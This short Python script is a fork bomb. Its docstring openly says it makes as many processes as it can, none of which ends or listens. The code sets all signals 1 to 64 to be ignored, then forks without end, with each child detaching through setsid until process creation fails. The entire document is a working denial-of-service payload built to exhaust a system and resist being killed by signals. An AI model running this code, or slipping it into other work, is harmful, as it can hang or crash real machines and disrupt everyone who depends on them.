"""Makes as many processes as it can, none of which ends or listens to anybody."""
import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError as error:
        print("full", error.strerror, flush=True)
        signal.pause()
